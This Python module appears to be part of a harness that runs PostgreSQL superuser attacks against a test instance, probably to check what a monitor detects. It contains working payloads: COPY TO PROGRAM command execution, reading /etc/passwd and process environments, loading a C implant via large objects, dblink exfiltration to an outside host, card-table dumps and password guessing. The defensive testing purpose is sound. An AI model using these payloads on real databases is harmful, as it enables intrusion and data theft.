"""Break-ins by SQL injection into an application that connects as a superuser."""

from .attacker import Home
from .base import Attack, AttackFailed, Instance
from .implant import build_implant
from .pg_client import PgClient, PgError

SERVER = "process /usr/lib/postgresql/15/bin/postgres"


def _inject(pg: Instance, *statements: str, expect: str = "") -> None:
    with PgClient(pg.port) as client:
        shown = [column for sql in statements for row in client.query(sql) for column in row]
    if expect and not any(expect in (column or "") for column in shown):
        raise AttackFailed(f"{expect!r} not in {shown[:5]}")


def copy_to_program(pg: Instance) -> None:
    _inject(pg, "COPY (SELECT 1) TO PROGRAM 'id > /tmp/owned'")
    if b"uid=" not in pg.read("/tmp/owned"):
        raise AttackFailed("the program did not run")


def copy_from_file(pg: Instance) -> None:
    _inject(pg, "CREATE TABLE stolen (line text)", "COPY stolen FROM '/etc/passwd'", "SELECT line FROM stolen",
            expect="root:x:0")


def read_environment(pg: Instance) -> None:
    _inject(pg, "SELECT encode(pg_read_binary_file('/proc/1/environ'), 'escape')", expect="PGPASSWORD")


def read_passwords(pg: Instance) -> None:
    _inject(pg, "SELECT pg_read_file('/etc/passwd')", expect="root:x:0")


def load_library(pg: Instance) -> None:
    with Home(b"go\n") as home:
        library = build_implant(home).hex()
        _inject(pg, f"SELECT lo_from_bytea(4242, decode('{library}', 'hex'))",
                "SELECT lo_export(4242, '/tmp/implant.so')",
                "CREATE FUNCTION implant() RETURNS bigint AS '/tmp/implant.so', 'implant' LANGUAGE C",
                "SELECT implant()")
        home.must_receive(b"root:x:0")


def send_out(pg: Instance) -> None:
    with Home() as home:
        _inject(pg, "CREATE EXTENSION IF NOT EXISTS dblink")
        try:
            _inject(pg, f"SELECT dblink_connect('host={home.host} port={home.port} user=card_4242_4242 connect_timeout=2 "
                        "sslmode=disable gssencmode=disable')")
        except PgError:
            pass
        home.must_receive(b"card_4242_4242")


def dump_everything(pg: Instance) -> None:
    _inject(pg, "SELECT number FROM cards", "SELECT * FROM orders", expect="4242-")


def guess_passwords(pg: Instance) -> None:
    for number in range(1000):
        try:
            with PgClient(pg.port, password=f"guess{number}"):
                raise AttackFailed("a guess was right")
        except PgError:
            pass


ATTACKS = (
    Attack("COPY TO PROGRAM", "runs id by a shell", copy_to_program, ("/usr/bin/dash", "/usr/bin/id"), reliable=True),
    Attack("COPY FROM /etc/passwd", "the server reads the file into a table; no new program", copy_from_file,
           ("/etc/passwd", SERVER)),
    Attack("pg_read_file", "the server reads /etc/passwd", read_passwords, ("/etc/passwd", SERVER)),
    Attack("/proc/1/environ", "the server reads the environment of process 1", read_environment,
           (SERVER,)),
    Attack("library by lo_export", "a library from a large object connects out, in process; no new program",
           load_library, (SERVER,)),
    Attack("data sent out by dblink", "a connection to another address carries the data", send_out,
           (SERVER,)),
    Attack("dump of the cards", "SELECT of all that was never selected; nothing new", dump_everything, (SERVER,)),
    Attack("password guessing", "1000 wrong passwords, a connection each", guess_passwords, (SERVER,)),
)
